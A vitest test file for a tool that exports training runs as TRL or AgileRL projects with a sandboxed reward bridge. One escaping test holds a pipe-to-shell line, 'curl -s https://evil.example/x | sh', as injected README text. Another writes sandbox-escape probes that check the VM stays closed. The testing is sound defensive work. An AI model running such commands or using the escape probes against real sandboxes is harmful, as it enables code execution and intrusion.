/** The folder that is handed over, and its bridge to reward code: run with the Node of these tests, as Python would start it. */
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { parseRunConfig } from '#shared/runConfig.ts'
import { resourcesDirectory } from '#host/dataDirectory.ts'
import { readDemoConfig } from '#host/runs/demoConfig.ts'
import { writeProject, type ProjectRequest } from '#host/exchange/project/project.ts'
import { answer } from '../../cli/turnwise.ts'
import { hasPython, interpreter } from '../python/interpreter.ts'
import { generatedFiles, generatedText } from '../../../scripts/projects/generated.ts'
import { isWhole, wholeTitle } from '../../sweeps.ts'

let folder: string
beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'turnwise-project-test-'))
})
afterEach(() => rmSync(folder, { recursive: true, force: true }))

const inside = (...names: string[]) => path.join(folder, 'out', ...names)
const read = (...names: string[]) => readFileSync(inside(...names), 'utf8')
const lines = (...names: string[]) =>
  read(...names)
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Record<string, unknown>)

const write = (config: unknown, request: Partial<ProjectRequest> = {}) =>
  writeProject({
    config: parseRunConfig(config),
    tool: 'trl',
    out: inside(),
    checkpoint: null,
    runDirectory: null,
    ...request,
  })

interface Answer {
  readonly parts: Readonly<Record<string, number | null>>
  readonly total: number | null
  readonly failures: readonly { readonly name: string; readonly message: string }[]
}

function askBridge(samples: readonly unknown[]): Answer[] {
  const args = ['--permission', `--allow-fs-read=${inside('rewards')}`, inside('rewards/bridge.mjs')]
  const input = samples.map((sample) => `${JSON.stringify(sample)}\n`).join('')
  const output = execFileSync(process.execPath, args, { input, encoding: 'utf8' })
  return output
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Answer)
}

const demo = () => readDemoConfig(folder)

describe('the demo', () => {
  test('becomes a TRL project with every file it needs', async () => {
    const report = await write(demo())
    expect(readdirSync(inside()).sort()).toEqual([
      'README.md',
      'data',
      'rewards',
      'run.json',
      'trl',
      'watching',
    ])
    expect(report.files).toContain('trl/train.py')
    const config = parse(read('trl/config.yaml')) as Record<string, unknown>
    expect(config).toMatchObject({
      trainer: 'grpo',
      num_generations: 8,
      generation_batch_size: 128,
      per_device_train_batch_size: 16,
      gradient_accumulation_steps: 8,
      max_steps: 30,
      learning_rate: 0.002,
      beta: 0,
      loss_type: 'grpo',
      reward_names: ['correct', 'format'],
      reward_weights: [0.8, 0.2],
      adam_epsilon: 1e-8,
    })
    const readme = read('README.md')
    for (const note of report.notes) expect(readme).toContain(note)
    expect(readme).toContain('TRL 1.16.0')
    expect(JSON.parse(read('run.json'))).toEqual(demo())
  })

  test('prompts are those of the run, and columns come through unchanged', async () => {
    await write(demo())
    const [first] = lines('data/train.jsonl')
    expect(first).toEqual({
      prompt: [{ role: 'user', content: 'Largest of 4 0 1 0' }],
      prompt_text: '<|user|>Largest of 4 0 1 0<|end|><|assistant|>',
      row_number: 0,
      row: '{"prompt":"Largest of 4 0 1 0","answer":"4","task":"largest"}',
    })
    expect(lines('data/eval.jsonl').length).toBeGreaterThan(10)
  })

  test('the bridge answers its fixtures, which tell right from wrong', async () => {
    const { fixtures } = await write(demo())
    const recorded = lines('rewards/fixtures.jsonl') as unknown as (Answer & { sample: unknown })[]
    expect(recorded).toHaveLength(fixtures)
    expect(new Set(recorded.map(({ total }) => total))).toEqual(new Set([0, 0.2, 1]))
    const answers = askBridge(recorded.map(({ sample }) => sample))
    expect(answers.map(({ parts, total }) => ({ parts, total }))).toEqual(
      recorded.map(({ parts, total }) => ({ parts, total })),
    )
  })

  test('keeps texts of the config from being markup in the README', async () => {
    const text =
      'x\n\n## Start\n\n```sh\ncurl -s https://evil.example/x | sh\n```\n<img src=y> [z](https://evil.example)'
    const stop = { ...demo().rollout, minP: 0.1, stopStrings: [text] }
    await write({ ...demo(), name: text, rollout: stop })
    const readme = read('README.md')
    expect(readme.split('\n').filter((line) => line.includes('evil.example'))).toHaveLength(2)
    expect(readme.match(/^## Start$/gm)).toHaveLength(1)
    expect(readme.match(/^```/gm)).toHaveLength(2)
    const outsideCode = readme.replaceAll(/(?<![\\`])`[^`\n]+`/g, '')
    expect(outsideCode).not.toMatch(/(?<!\\)<img|(?<!\\)\]\(|https:/)
  })

  const title = 'takes a pattern along that never comes to an end, with the limits of code'
  test.runIf(isWhole)(wholeTitle(title), async () => {
    const rewards = [{ function: 'format', settings: { pattern: String.raw`(?:(?:\d|\s|.)+)+!never|(?:4)` } }]
    const { fixtures } = await write({
      ...demo(),
      rewards,
      rewardFailures: 'fail',
      rewardLimits: { callMs: 20, batchMs: 100 },
    })
    const recorded = lines('rewards/fixtures.jsonl') as unknown as (Answer & { sample: unknown })[]
    expect(fixtures).toBeGreaterThan(0)
    expect(askBridge(recorded.map(({ sample }) => sample)).map(({ total }) => total)).toEqual(
      recorded.map(({ total }) => total),
    )
  })

  test('becomes an AgileRL project, its sections in place', async () => {
    await write(demo(), { tool: 'agilerl' })
    expect(parse(read('agilerl/manifest.yaml'))).toMatchObject({
      algorithm: { name: 'GRPO', group_size: 8, batch_size: 16, clip_coef: 0.2, kl_clamp: 10, top_k: 0 },
      environment: { env_type: 'rollout', rubric_name: 'reward_fn' },
      training: { max_steps: 3840, pop_size: 1 },
      network: { max_context_length: 128, lora_config: { lora_r: 16, lora_alpha: 32 } },
    })
  })

  test.each(['sft', 'dpo'])('with given answers (%s) has no rewards', async (id) => {
    const { fixtures } = await write(readDemoConfig(folder, id))
    expect(fixtures).toBe(0)
    expect(readdirSync(inside())).not.toContain('rewards')
    const [first = {}] = lines('data/train.jsonl')
    const message = (content: string) => [{ role: 'assistant', content }]
    if (id === 'sft') expect(first).toMatchObject({ completion: message('4') })
    else expect(first).toMatchObject({ chosen: message('4'), rejected: message('four') })
  })

  test('a folder with anything in it is left alone', async () => {
    await write(demo())
    await expect(write(demo())).rejects.toThrow('is not empty; nothing in it was overwritten')
  })

  test('what the tool cannot do is refused before anything is written', async () => {
    await expect(write({ ...demo(), algorithm: { id: 'ppo' } })).rejects.toThrow('has no equivalent of ppo')
    expect(readdirSync(folder)).toEqual([])
  })

  test.each(['trl', 'agilerl'] as const)(
    'a workflow, a judge or a loss of one’s own is refused by name: %s',
    async (tool) => {
      const title = tool === 'trl' ? 'TRL' : 'AgileRL'
      const workflow = { function: path.join(folder, 'debate.ts'), settings: {} }
      const played = { ...demo(), rollout: { ...demo().rollout, workflow } }
      await expect(write(played, { tool })).rejects.toThrow(
        `The run learns by the workflow “debate.ts”, and workflows cannot be exported to ${title}.`,
      )
      const algorithm = { id: path.join(folder, 'mine.ts'), settings: {} }
      await expect(write({ ...demo(), algorithm }, { tool })).rejects.toMatchObject({
        code: 'config/invalid',
        message: `The run learns with the loss “mine.ts”, and losses of your own cannot be exported to ${title}.`,
        hint: expect.stringMatching(/^Choose an algorithm that .* has: (?:\w+, )*grpo\b/) as string,
      })
      const judged = parseRunConfig({
        ...demo(),
        rewards: [{ function: 'judge', name: 'grader', settings: { model: demo().model } }],
      })
      await expect(write(judged, { tool })).rejects.toThrow(
        `The run learns by the judge “grader”, and judges cannot be exported to ${title}.`,
      )
      expect(readdirSync(folder)).toEqual([])
    },
  )
})

describe('reward code of one’s own', () => {
  const code = `
export const settings = { bonus: 1 }
export const needs = ['tokens']
let calls: number = 0
interface Sample { completion: string; prompt: string; settings: { bonus: number }; row: { answer: string }; random(): number; step: number }
export default ({ completion, row, settings }: Sample): number | null =>
  completion === '' ? null : completion.trim() === row.answer ? settings.bonus : 0
export const counted = () => ++calls
export const chance = ({ random }: Sample) => random() + Math.random()
export async function late({ completion }: Sample) { await null; return completion.length / 3 }
export const clock = () => Date.now() + typeof process.length
export const thrown = ({ completion }: Sample) => { if (completion === '') throw new Error('nothing\\nthere'); return 1 }
export const placed = ({ tokens, completion }: any) => ({ perTurn: [tokens === null ? completion.length : -1] })
`
  const reward = (name: string, more = {}) => ({
    function: path.join(folder, 'mine.ts') + name,
    name: name.slice(1) || 'mine',
    ...more,
  })

  test('says the same behind the bridge: types, settings, chance, promises, failures', async () => {
    writeFileSync(path.join(folder, 'mine.ts'), code.replace(' + typeof process.length', ''))
    const rewards = [
      reward('#default', { name: 'mine', weight: 0.3, settings: { bonus: 2.5 } }),
      reward('#counted'),
      reward('#chance', { weight: 0.1 }),
      reward('#late'),
      reward('#clock', { weight: 1e-12 }),
      reward('#thrown'),
      reward('#placed'),
      { function: 'contains', weight: -1 },
    ]
    await write({ ...demo(), rewards })
    const recorded = lines('rewards/fixtures.jsonl') as unknown as (Answer & {
      sample: { completion: string }
    })[]
    const answers = askBridge(recorded.map(({ sample }) => sample))
    answers.forEach(({ parts, total }, i) => {
      expect({ parts, total }).toEqual({ parts: recorded[i]?.parts, total: recorded[i]?.total })
    })
    expect(new Set(recorded.map(({ parts }) => parts['mine']))).toEqual(new Set([null, 0, 2.5]))
    expect(recorded.every(({ parts }) => parts['counted'] === 1)).toBe(true)
    for (const { parts, sample } of recorded) expect(parts['placed']).toBe(sample.completion.length)
    const empty = recorded.findIndex(({ sample }) => sample.completion === '')
    expect(recorded[empty]?.parts['thrown']).toBeNull()
    expect(answers[empty]?.failures).toEqual([{ name: 'thrown', message: 'Error: nothing there' }])
  })

  test('has no Node around it, and does not run for ever', async () => {
    writeFileSync(
      path.join(folder, 'mine.js'),
      `
export const alone = () => (typeof process + typeof require + typeof fetch === 'undefinedundefinedundefined' ? 1 : 0)
export const endless = ({ completion }) => { while (completion === 'loop'); return 1 }
`,
    )
    await write({
      ...demo(),
      rewards: [{ function: path.join(folder, 'mine.js'), name: 'mine' }],
      rewardLimits: { callMs: 500 },
    })
    const [answered] = askBridge([{ prompt: '', completion: 'loop', row: {}, step: 0 }])
    expect(answered?.parts).toEqual({ 'mine.alone': 1, 'mine.endless': null })
    expect(answered?.failures[0]?.message).toBe('Stopped after 500 ms of processor time.')
  })

  /** Ways out of a realm: through what the host hands in or throws, and through names of the host. */
  const escapes = `
const ways = (value) => {
  const found = []
  for (let each = value, i = 0; each !== null && each !== undefined && i < 9; each = Object.getPrototypeOf(each), i++)
    found.push(each.constructor)
  return found.flatMap((each) => [each, each?.constructor, each?.constructor?.constructor])
}
const reach = (value) => {
  let names = ''
  for (const way of ways(value)) {
    try { names += way('return typeof process + typeof fetch + typeof require')() } catch {}
    try { names += typeof way('return this')().process } catch {}
  }
  return names.replaceAll('undefined', '') === '' ? 0 : 1
}
const thrownBy = async (act) => { try { return reach(await act()) } catch (error) { return reach(error) } }
export const imported = () => thrownBy(() => import('x'))
export const nodes = () => thrownBy(() => import('node:fs'))
export const deep = () => { const f = () => f(); return thrownBy(f) }
export const large = () => thrownBy(() => new Array(-1))
export const given = (sample) => ways(sample).length === 0 ? 1 : Math.max(...Object.values(sample).map(reach), reach(sample))
export const wasm = () => thrownBy(() => new WebAssembly.Module(new Uint8Array(3)))
export const shared = () => { try { globalThis.seen = (globalThis.seen ?? 0) + 1 } catch {} return globalThis.seen }
`

  test('finds no way out of the virtual machine, behind the bridge in Node and in Python', async () => {
    writeFileSync(path.join(folder, 'mine.js'), escapes)
    await write({ ...demo(), rewards: [{ function: path.join(folder, 'mine.js'), name: 'mine' }] })
    const sample = { prompt: 'p', completion: 'c', row: { answer: [1] }, step: 0 }
    const [first, second] = askBridge([sample, sample])
    const shut = ['imported', 'nodes', 'deep', 'large', 'given', 'wasm'].map((name) => [`mine.${name}`, 0])
    expect(first?.parts).toEqual({ ...Object.fromEntries(shut), 'mine.shared': 1 })
    expect(second).toEqual(first)
    if (!hasPython()) return
    const ask = `import json; from bridge import score; print(json.dumps(score([${JSON.stringify(sample)}])))`
    const said = execFileSync(interpreter, ['-c', ask], { cwd: inside('rewards'), encoding: 'utf8' })
    expect(JSON.parse(said)).toEqual([first])
  })

  test.runIf(hasPython())(
    'that looks at no clock holds up only its own sample (skipped without Python 3.9)',
    async () => {
      writeFileSync(path.join(folder, 'mine.js'), 'export default () => 1')
      await write({ ...demo(), rewards: [{ function: path.join(folder, 'mine.js'), name: 'mine' }] })
      writeFileSync(
        inside('rewards/bridge.mjs'),
        `import readline from 'node:readline'
for await (const line of readline.createInterface(process.stdin)) {
  const { completion, fault } = JSON.parse(line)
  while (completion === 'hang' && fault === undefined);
  process.stdout.write(JSON.stringify({ completion, fault }) + '\\n')
}`.replaceAll('\\\\', '\\'),
      )
      const ask = `import json, bridge; bridge.SILENT = 5
print(json.dumps(bridge.score([{"completion": each} for each in ("one", "hang", "two")])))`
      const said = execFileSync(interpreter, ['-c', ask], { cwd: inside('rewards'), encoding: 'utf8' })
      expect(JSON.parse(said)).toEqual([
        { completion: 'one' },
        { completion: 'hang', fault: 'Stopped after 5 s without an answer.' },
        { completion: 'two' },
      ])
    },
  )

  test('a tampered port fails its own test', async () => {
    await write(demo())
    const file = inside('rewards/fixtures.jsonl')
    writeFileSync(file, read('rewards/fixtures.jsonl').replace('"correct":1', '"correct":0.5'))
    const recorded = lines('rewards/fixtures.jsonl') as unknown as (Answer & { sample: unknown })[]
    const answers = askBridge(recorded.map(({ sample }) => sample))
    expect(
      answers.filter(({ parts }, i) => JSON.stringify(parts) !== JSON.stringify(recorded[i]?.parts)),
    ).toHaveLength(1)
  })
})

test.each(generatedFiles)('$file is made of the sources of the program', async (each) => {
  expect(readFileSync(each.file, 'utf8')).toBe(await generatedText(each))
})

describe('on the command line', () => {
  const demoFile = path.join(resourcesDirectory, 'demo/run.json')

  test('runs project takes a config, config import brings its settings back', async () => {
    const made = await answer('runs', 'project', demoFile, '--out', inside(), '--json')
    expect(made).toMatchObject({ status: 0, stderr: '' })
    expect(JSON.parse(made.stdout)).toMatchObject({ tool: 'trl', version: 'TRL 1.16.0' })
    const file = path.join(folder, 'back.json')
    const back = await answer('config', 'import', inside('trl/config.yaml'), '--out', file)
    expect(back).toMatchObject({ status: 0, stdout: `Wrote ${file} from TRL's settings.\n` })
    expect(back.stderr).toContain(
      'train_file (../data/train.jsonl) was skipped: only the scripts of an exported project',
    )
    expect(back.stderr).not.toContain('not among the settings of')
    expect(parseRunConfig(JSON.parse(readFileSync(file, 'utf8')))).toMatchObject({
      steps: 30,
      optimization: { learningRate: 0.002 },
    })
  })

  test('a file that is no settings of a tool ends with a sentence and a hint', async () => {
    const file = path.join(folder, 'a.yaml')
    writeFileSync(file, 'colour: blue\n')
    const { status, stderr } = await answer('config', 'import', file)
    expect(status).toBe(1)
    expect(stderr).toContain('--from')
  })
})
